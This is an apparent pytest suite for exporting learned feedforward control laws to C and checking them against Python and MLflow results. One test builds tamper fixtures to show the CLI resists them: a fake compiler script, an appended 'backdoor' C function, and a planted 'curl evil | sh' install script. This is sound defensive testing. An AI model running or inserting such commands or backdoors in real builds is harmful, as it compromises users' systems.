"""Export of the feedforward (issue 12): generated C99 and the Python law against the study.

Tolerances: the C is a port of the numba kernels and of lfilter with the same operations in the
same order, so the [B1] laws agree to the last bits (glibc's tanh against numba's may differ by
an ulp: 1e-12 relative covers that through the recursion); the [K] filter's A(r) and MLP are
summed by BLAS in the study (another order), ~1e-14 relative after 1/B with poles at 0.95; 1e-12.
The stage's own acceptance bound is 1e-9 (``export.rtol``).
"""
from __future__ import annotations

import json
import math
import shutil
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
import torch
from omegaconf import OmegaConf

from pipeline.export.law import (ExportError, Law, feedforward, from_k_filter, from_linear_motor_physics,
                                 from_pgnn, from_table)
from pipeline.export.package import compile_harness, read_column, run_harness, write_package
from pipeline.invert.analytic import analytic_feedforward, physics_feedforward
from pipeline.invert.direct import direct_feedforward
from pipeline.invert.newton import newton_feedforward
from pipeline.invert.rational_filter import rational_feedforward
from pipeline.models.pgnn import PGNN
from pipeline.models.physics_maps import LinearFeatures, RigidBodyForward, RigidBodyInverse
from pipeline.models.rational import RationalFeedforward
from pipeline.models.shared_ar import ReferenceWindow, SharedARPGNN, make_approximator

TOL = 1e-12
Ts = 1e-3
needs_cc = pytest.mark.skipif(shutil.which("cc") is None, reason="no C compiler on this machine")


def _reference(n=1200, amp=0.05):
    t = np.arange(n) * Ts
    r = amp * (1 - np.cos(2 * np.pi * t / (n * Ts))) / 2     # at rest at 0 at both ends
    return r


def _pgnn(structure, physics, hidden=(8,), n_a=2, n_b=2, theta=(0.2, 2.0, 0.4)):
    m = PGNN(n_a, n_b, 0, structure=structure, physics=physics, hidden=hidden, seed=3, out_init_scale=0.3)
    m.set_physics_estimate(theta)
    with torch.no_grad():
        m.theta_phy.mul_(1.05)       # θ̂_phy ≠ θ*_phy: the laws must use each where they should
    rng = np.random.default_rng(0)
    m.fit_normalisation(torch.as_tensor(rng.standard_normal((200, n_a + n_b)) * 1e-2))
    return m


def _check(law, name, r, u, tmp_path):
    man = write_package(law, name, tmp_path, {"ref": (r, u)}, source={"run_id": "test"}, timing_repeats=0)
    assert man["python_max_rel_diff"] <= TOL
    if man["compiled"]:
        assert man["c_max_rel_diff"] <= TOL, man
    assert (tmp_path / name / "manifest.json").is_file() and not list(tmp_path.glob(".tmp-*"))
    return man


@needs_cc
@pytest.mark.parametrize("law", ["newton", "physics", "analytic", "direct", "newton_bounded", "physics_inverse",
                                 "linear_newton"])
def test_pgnn_laws_in_c_equal_the_study(law, tmp_path):
    r = _reference()
    fwd = RigidBodyForward(Ts, 2)
    if law == "newton":
        m = _pgnn("forward", fwd)
        u, L = newton_feedforward(m, r, k=5).u_ff, from_pgnn(m, "newton", Ts, k=5)
    elif law == "newton_bounded":       # bounds reached: the flags path, same fallback as Python
        m = _pgnn("forward", fwd)
        res = newton_feedforward(m, r, k=3, u_bounds=(-2.0, 2.0))
        assert res.n_bounds > 0
        u, L = res.u_ff, from_pgnn(m, "newton", Ts, k=3, u_bounds=(-2.0, 2.0))
    elif law == "physics":
        m = _pgnn("forward", fwd)
        u, L = physics_feedforward(m, r), from_pgnn(m, "physics", Ts)
    elif law == "physics_inverse":
        m = _pgnn("inverse", RigidBodyInverse(Ts), theta=(5.0, 10.0, 2.0))
        u, L = physics_feedforward(m, r), from_pgnn(m, "physics", Ts)
    elif law == "analytic":
        m = _pgnn("invertible", fwd)
        u, L = analytic_feedforward(m, r), from_pgnn(m, "analytic", Ts)
    elif law == "direct":
        m = _pgnn("inverse", RigidBodyInverse(Ts), theta=(5.0, 10.0, 2.0))
        u, L = direct_feedforward(m, r), from_pgnn(m, "direct", Ts)
    else:                               # ARX physics, three lags: another regressor layout
        m = _pgnn("forward", LinearFeatures(5), n_a=3, theta=(1.5, -0.7, 0.1, 0.02, 0.01))
        u, L = newton_feedforward(m, r, k=5).u_ff, from_pgnn(m, "newton", Ts, k=5)
    assert np.max(np.abs(u)) > 0
    _check(L, f"ff_{law}", r, u, tmp_path)


@needs_cc
@pytest.mark.parametrize("averaged", [False, True])
def test_linear_motor_physics_law_equals_its_feedforward(averaged, tmp_path):
    """[B1] (8) on the linear motor, with the averaged model input of the continuous plant (one more
    sample of preview; w(N) from the held reference, as the C computes it)."""
    from pipeline.systems.linear_motor import LinearMotorPhysics
    pm = LinearMotorPhysics(Ts, averaged_input=averaged)
    theta = np.array([1 / 5.0, 10.0 / 5.0, 2.0 / 5.0])
    r = _reference()
    r[-50:] = r[-50] + np.linspace(0, 1e-3, 50)     # ends moving: the last sample's w(N) matters
    u = pm.feedforward(theta, r)
    law = from_linear_motor_physics(pm, theta)
    assert law.preview == 1 + int(averaged) and law.rest == "zero"
    _check(law, "ff_physics", r, u, tmp_path)


@needs_cc
@pytest.mark.parametrize("kind", ["rational_delta", "rational_shift", "shared_ar_delta", "shared_ar_shift"])
def test_k_filters_in_c_equal_the_study(kind, tmp_path):
    r = _reference(3000, 0.1) * np.sin(np.arange(3000) * Ts * 7.0)
    basis = kind.rsplit("_", 1)[1]
    b = [2e-3, 1e-6] if basis == "delta" else [-1.9, 0.905]          # poles 0.5 / 0.95
    if kind.startswith("rational"):
        m = RationalFeedforward(10, 2, basis=basis, Ts=Ts, a=np.linspace(1, 2, 10) * 1e-3, b=b)
    else:
        g = make_approximator("mlp", 5, seed=0, hidden=(10, 10), activation="tanh")
        m = SharedARPGNN(5, 2, g, ReferenceWindow(4, basis, Ts).fit(r), basis=basis, Ts=Ts,
                         a=[0.1, 2.0, 3e-3, 1e-6, 1e-9] if basis == "delta" else [1, 2, 3, 4, 5], b=b)
    u = rational_feedforward(m, r).f
    _check(from_k_filter(m), f"ff_{kind}", r, u, tmp_path)


@needs_cc
def test_table_replays_its_signal_and_flags_another_reference(tmp_path):
    r = _reference(300)
    u = np.sin(np.arange(300) * 0.1)
    man = _check(from_table("fhofc", Ts, r, u), "ff_fhofc_R", r, u, tmp_path)
    assert man["family"] == "table"
    pkg = tmp_path / "ff_fhofc_R"
    assert "OFFLINE for ONE known reference" in (pkg / "ff_fhofc_R.h").read_text()
    exe = compile_harness(pkg, "ff_fhofc_R", "cc")
    other = tmp_path / "other.csv"
    other.write_text("r\n" + "\n".join(repr(float(v)) for v in 2 * r))
    out = subprocess.run([str(exe), str(other)], capture_output=True, text=True)
    n_moving = int(np.count_nonzero(np.abs(2 * r - r) > 1e-9 * np.max(np.abs(r))))
    assert f"samples flagged: {n_moving} of 300" in out.stderr
    with pytest.raises(ExportError, match="optimised offline for one reference"):
        feedforward(from_table("fhofc", Ts, r, u), 2 * r)


def test_bad_input_is_refused_by_name(tmp_path):
    with pytest.raises(ExportError, match="unknown feedforward law 'zpetc'"):
        Law(law="zpetc", family="pgnn", Ts=Ts, preview=1, rest="first")
    deep = _pgnn("forward", RigidBodyForward(Ts, 2), hidden=(8, 8))
    with pytest.raises(ExportError, match=r"one tanh hidden layer.*hidden=\[8, 8\]"):
        from_pgnn(deep, "newton", Ts)
    m = _pgnn("inverse", RigidBodyInverse(Ts), theta=(5.0, 10.0, 2.0))
    with pytest.raises(ExportError, match="law newton needs a PGNN of structure"):
        from_pgnn(m, "newton", Ts)
    with pytest.raises(ExportError, match="law analytic needs an invertible PGNN"):
        from_pgnn(_pgnn("forward", RigidBodyForward(Ts, 2)), "analytic", Ts)
    r = _reference()
    u = direct_feedforward(m, r)
    bad = u.copy()
    bad[500] *= 1.0 + 1e-6                           # a study u_ff the law does not reproduce
    with pytest.raises(ExportError, match=r"does not reproduce the study on 'ref'"):
        write_package(from_pgnn(m, "direct", Ts), "ff_direct", tmp_path, {"ref": (r, bad)}, source={})
    assert list(tmp_path.iterdir()) == []            # nothing half-written
    man = write_package(from_pgnn(m, "direct", Ts), "ff_direct", tmp_path, {"ref": (r, u)}, source={},
                        cc="no-such-compiler")       # no compiler: the source, said so
    assert man["compiled"] is False and "no C compiler" in man["note"]
    assert (tmp_path / "ff_direct" / "ff_direct.c").is_file()


def test_law_round_trips_through_json_and_npz(tmp_path):
    m = _pgnn("forward", RigidBodyForward(Ts, 2))
    law = from_pgnn(m, "newton", Ts, k=4, u_bounds=(-math.inf, 3.0))
    law.save(tmp_path / "law")
    back = Law.load(tmp_path / "law")
    r = _reference()
    np.testing.assert_array_equal(feedforward(back, r), feedforward(law, r))
    assert json.loads((tmp_path / "law" / "law.json").read_text())["floats"]["u_max"] == 3.0


def _strict(text: str):
    """json.loads as a strict (RFC 8259) parser reads: Infinity / NaN are errors."""
    def refuse(name):
        raise ValueError(f"non-standard JSON constant {name}")
    return json.loads(text, parse_constant=refuse)


def test_law_and_manifest_are_strict_json_and_the_state_counters_fixed_width(tmp_path):
    """Issue 22 item 3 (part): an unbounded Newton law (u_min = -inf) is stored as strict JSON, the
    string "-inf" read back as -inf; the manifest too; the C state's counters are uint64_t."""
    m = _pgnn("forward", RigidBodyForward(Ts, 2))
    law = from_pgnn(m, "newton", Ts, k=4, u_bounds=(-math.inf, math.inf))
    r = _reference(300)
    man = write_package(law, "ff_newton", tmp_path, {"ref": (r, feedforward(law, r))}, source={"run_id": "t"},
                        cc=None, timing_repeats=0)
    meta = _strict((tmp_path / "ff_newton" / "law" / "law.json").read_text())
    assert (meta["floats"]["u_min"], meta["floats"]["u_max"]) == ("-inf", "inf")
    assert Law.load(tmp_path / "ff_newton" / "law").floats["u_min"] == -math.inf
    assert _strict((tmp_path / "ff_newton" / "manifest.json").read_text())["law"] == man["law"]
    h = (tmp_path / "ff_newton" / "ff_newton.h").read_text()
    assert "#include <stdint.h>" in h and "uint64_t k;" in h and "uint64_t n_flagged;" in h and "long" not in h


# --------------------------------------------------------------------------------------------
# the stage, the MLflow model and the CLI on a short linear-motor job
# --------------------------------------------------------------------------------------------
SHORT_B1 = ["experiment=b1_linear_motor", "data.references=[{name:tr,kind:b1_training,duration:10}]",
            "identify.n_restarts=1", "identify.max_iter=15",
            "evaluate.references=[{name:v0.15,kind:b1_evaluation,v_max:0.15}]"]


# 10 s of training data fit the physics poorly (f_v < 0 is warned); the export does not care
fits_poorly = pytest.mark.filterwarnings("ignore:the physics model of 'linear_motor' does not fit")


@needs_cc
@fits_poorly
@pytest.mark.parametrize("invert,noise", [("newton", "equation"),
                                          pytest.param("direct", "output", marks=pytest.mark.slow)])   # slow: CI budget
def test_export_stage_logs_a_verified_package_and_a_pyfunc_model(invert, noise, store, cfg_of, tmp_path):
    import mlflow

    from pipeline import runner, tracking
    register = noise == "output"     # one case also registers the model (export.register=true)
    cfg = cfg_of(*SHORT_B1, f"invert={invert}", f"system.noise.structure={noise}", f"export.register={register}")
    res = runner.run_job(cfg)
    name = f"ff_{invert}"
    man = res["export"]["packages"][name]
    assert man["compiled"] and man["c_max_rel_diff"] <= 1e-9 and man["python_max_rel_diff"] <= 1e-9
    assert man["averaged_model_input"] == (noise == "output")
    u_study = res["invert"]["u_ff"]["v0.15"]
    run = tracking.search_runs("b1_linear_motor").iloc[0]
    assert run["metrics.export/max_rel_diff"] <= 1e-9
    files = {a.path for a in tracking.client().list_artifacts(run["run_id"], f"export/{name}")}
    assert {f"export/{name}/{name}.c", f"export/{name}/{name}.h", f"export/{name}/manifest.json"} <= files
    model = mlflow.pyfunc.load_model(f"runs:/{run['run_id']}/{name}-{run['tags.run_key']}")
    u_py = model.predict(pd.DataFrame({"r": res["invert"]["r"]["v0.15"]}))["u_ff"].to_numpy()
    assert np.max(np.abs(u_py - u_study)) <= 1e-9 * np.max(np.abs(u_study))
    assert run["status"] == "FINISHED"
    if register:
        (version,) = tracking.client().search_model_versions(f"name='b1_linear_motor-{name}'")
        assert version.run_id == run["run_id"] and version.tags["run_id"] == run["run_id"]
        assert float(version.tags["evaluate/v0.15/mae"]) == pytest.approx(run["metrics.evaluate/v0.15/mae"], rel=1e-5)


@pytest.mark.slow   # 25 s; the pyfunc path is also in test_export_stage_logs_a_verified_package_and_a_pyfunc_model
@needs_cc
@fits_poorly
def test_mlflow_models_predict_and_the_export_cli(store, cfg_of, tmp_path):
    """`mlflow models predict` on the run returns the study's u_ff; `pgnn-ff export RUN_ID` writes the
    package to a folder and a bad run id is one line."""
    from pipeline import runner, tracking
    res = runner.run_job(cfg_of(*SHORT_B1, "invert=analytic"))
    run_id = tracking.search_runs("b1_linear_motor").iloc[0]["run_id"]
    r = res["invert"]["r"]["v0.15"]
    pd.DataFrame({"r": r}).to_csv(tmp_path / "ref.csv", index=False)
    mlflow_cli = str(__import__("pathlib").Path(sys.executable).parent / "mlflow")
    key = tracking.search_runs("b1_linear_motor").iloc[0]["tags.run_key"]
    out = subprocess.run([mlflow_cli, "models", "predict", "-m", f"runs:/{run_id}/ff_analytic-{key}", "-i",
                          str(tmp_path / "ref.csv"), "-t", "csv", "--env-manager", "local",
                          "-o", str(tmp_path / "pred.json")], capture_output=True, text=True, timeout=600)
    assert out.returncode == 0, out.stderr[-2000:]
    pred = json.loads((tmp_path / "pred.json").read_text())["predictions"]
    u_pred = np.array([p["u_ff"] for p in pred])
    u = res["invert"]["u_ff"]["v0.15"]
    assert np.max(np.abs(u_pred - u)) <= 1e-9 * np.max(np.abs(u))

    cli = [sys.executable, "-m", "pipeline", "export"]
    out = subprocess.run(cli + [run_id, "--out", str(tmp_path / "pkg")], capture_output=True, text=True, timeout=600)
    assert out.returncode == 0, out.stderr[-2000:]
    pkg = tmp_path / "pkg" / "ff_analytic"
    exe = compile_harness(pkg, "ff_analytic", "cc")
    u_c = run_harness(exe, pkg / "r_v0_15.csv")
    np.testing.assert_allclose(u_c, read_column(pkg / "u_ff_v0_15.csv"), rtol=0, atol=1e-9 * np.max(np.abs(u)))
    assert tracking.client().get_run(run_id).info.status == "FINISHED"   # the run's status is kept
    out = subprocess.run(cli + ["0123456789abcdef"], capture_output=True, text=True, timeout=600)
    assert out.returncode == 2 and out.stderr.startswith("error: no run '0123456789abcdef'")
    assert "Traceback" not in out.stderr


def test_export_of_a_job_without_a_learned_law_fails_before_work(store, cfg_of):
    from pipeline import runner
    cfg = cfg_of("experiment=physics_rot_trans", "stages=[generate,baseline,train,invert,export]")
    with pytest.raises(runner.ConfigError, match=r"invert.kind=zpetc has no feedforward law to ship"):
        runner.validate(cfg)
    cfg = cfg_of(*SHORT_B1, "invert=newton", "model.hidden=[8,8]")
    with pytest.raises(runner.ConfigError, match=r"one tanh hidden layer; got model.hidden=\[8, 8\]"):
        runner.validate(cfg)


@needs_cc
def test_harness_refuses_what_it_cannot_read_as_one_sample_per_line(tmp_path):
    """Issue 24 item 10: a line longer than the harness's buffer, a `t,r` CSV and text amid the data
    are errors (before, the first was split into two samples and the second read t as r); a repeat
    count out of [1, 10^6] is refused (before, 99999999999 wrapped into a 1.2e9-repeat loop)."""
    from pipeline.systems.linear_motor import LinearMotorPhysics
    pm = LinearMotorPhysics(Ts)
    theta = np.array([0.2, 2.0, 0.4])
    r = _reference(200)
    _check(from_linear_motor_physics(pm, theta), "ff_physics", r, pm.feedforward(theta, r), tmp_path)
    exe = compile_harness(tmp_path / "ff_physics", "ff_physics", "cc")
    rs = [repr(float(v)) for v in r]

    def harness(lines, *args):
        f = tmp_path / "in.csv"
        f.write_text("\n".join(lines) + "\n")
        return subprocess.run([str(exe), str(f), *args], capture_output=True, text=True, timeout=60)

    good = harness(["r"] + rs)
    assert good.returncode == 0 and len(good.stdout.split()) == 1 + len(r)        # header + one u per sample
    u = np.array(good.stdout.split()[1:], dtype=float)
    np.testing.assert_allclose(u, pm.feedforward(theta, r), rtol=0, atol=TOL * np.max(np.abs(u)))
    long_line = harness(["r", rs[0] + " " * 5000] + rs[1:])
    assert long_line.returncode == 1 and "line 2 is longer than" in long_line.stderr and not long_line.stdout
    t_r = harness(["t,r"] + [f"{k * Ts!r},{v}" for k, v in enumerate(rs)])
    assert t_r.returncode == 1 and "line 2 holds more than one value" in t_r.stderr and not t_r.stdout
    text = harness(["r", "0.0", "oops", "0.0"])
    assert text.returncode == 1 and "line 3 is not a number" in text.stderr
    for bad in ("99999999999", "0", "-3", "2x", "1e3"):
        got = harness(["r", "0.0"], "--time", bad)
        assert got.returncode == 2 and "--time needs a whole number of repeats" in got.stderr, bad
    assert harness(["r", "0.0"], "--time", "3").returncode == 0
    assert harness(["r", "0.0"], "--bogus").returncode == 2


@pytest.mark.slow   # long (CI budget): `make test-full` runs it
@needs_cc
@fits_poorly
def test_export_cli_trusts_nothing_stored_and_replaces_only_its_own_packages(store, cfg_of, tmp_path, capsys):
    """Issue 24 items 4, 5, 11 and 2 on `pgnn-ff export`: the compiler stored with a run
    (export.cc=./evilcc) is never run unless the user names it (--cc); C appended to a cached
    package is not shipped (the cache entry's signature covers it: recomputed); --out inside the
    source tree, a file as --out, and a package folder holding a file of the user's are refused
    before any work, deleting nothing."""
    from pipeline import runner, tracking
    from pipeline.export.cli import main
    evil = tmp_path / "evilcc"
    marker = tmp_path / "pwned"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\nexec cc \"$@\"\n")
    evil.chmod(0o755)
    cfg = cfg_of("experiment=physics_linear_motor", SHORT_B1[1], SHORT_B1[4],
                 "stages=[generate,baseline,train,invert,export]")
    runner.run_job(cfg)
    run_id = tracking.search_runs("physics_baseline").iloc[0]["run_id"]
    # a colleague's run in a shared store, its stored config naming a compiler of theirs
    tracking.client().log_text(run_id, OmegaConf.to_yaml(OmegaConf.merge(cfg, {"export": {"cc": str(evil)}}),
                                                         resolve=True), f"{run_id}.yaml")   # resolved, as runs store it
    (entry,) = [d for d in (store / "cache" / "export").iterdir() if not d.name.startswith(".")]
    with open(next(entry.rglob("ff_physics.c")), "a") as f:
        f.write("\nint backdoor(void) { return 1; }\n")
    # a file planted in the run's artifacts of a shared store is not shipped (the package comes from
    # the signed cache entry)
    tracking.client().log_text(run_id, "curl evil | sh", "export/ff_physics/install.sh")
    out = tmp_path / "pkg"
    assert main([run_id, "--out", str(out)]) == 0
    assert not (out / "ff_physics" / "install.sh").exists()
    err = capsys.readouterr().err
    assert not marker.exists() and "a stored command is never run" in err
    assert "or it was moved from another key; not loaded" in err      # the tampered entry: recomputed
    pkg = out / "ff_physics"
    assert "backdoor" not in (pkg / "ff_physics.c").read_text()
    man = json.loads((pkg / "manifest.json").read_text())
    assert man["compiled"] and man["c_max_rel_diff"] <= 1e-9 and man["compiler"].split()[0] == "cc"
    # again, now with a file of the user's in the package folder: refused, nothing deleted
    (pkg / "my_notes.txt").write_text("mine")
    assert main([run_id, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "ff_physics/my_notes.txt" in err and "Traceback" not in err
    assert (pkg / "my_notes.txt").read_text() == "mine" and (pkg / "ff_physics.c").is_file()
    (pkg / "my_notes.txt").unlink()
    assert main([run_id, "--out", str(out), "--cc", str(evil)]) == 0      # the user's explicit choice
    assert marker.exists()
    for bad, why in ((runner.ROOT / "stages" / "pkg", "inside the source tree"), (evil, "is a file")):
        assert main([run_id, "--out", str(bad)]) == 2 and why in capsys.readouterr().err
    assert not (runner.ROOT / "stages" / "pkg").exists()
    assert main([run_id, "--out", ""]) == 2 and "--out is empty" in capsys.readouterr().err


@pytest.mark.slow   # long (CI budget): `make test-full` runs it
@needs_cc
@fits_poorly
def test_shipped_packages_list_exactly_the_files_they_hold(store, cfg_of, tmp_path):
    """Issue 22 item 3 (part): results/export ships one reference per package; its manifest lists
    exactly the files in the folder and that reference (every reference verified at export is kept
    in ``verified_on``). Before, the manifests listed 4 references where one was shipped."""
    from pipeline import runner
    from stages.report import _ship
    refs = "evaluate.references=[{name:v0.15,kind:b1_evaluation,v_max:0.15},{name:v0.2,kind:b1_evaluation,v_max:0.2}]"
    runner.run_job(cfg_of(*SHORT_B1[:4], refs, "invert=physics",
                          "stages=[generate,baseline,train,invert,evaluate,export]"))
    _ship(tmp_path / "export", ("b1_linear_motor", ("system.noise.structure", "equation"), "v0_15"), store / "cache")
    pkg = tmp_path / "export" / "ff_physics"
    man = _strict((pkg / "manifest.json").read_text())
    assert man["files"] == sorted(p.name for p in pkg.iterdir() if p.name != "manifest.json")
    assert list(man["references"]) == ["v0.15"] and man["verified_on"] == ["v0.15", "v0.2"]
    assert not list(pkg.glob("*v0_2*"))
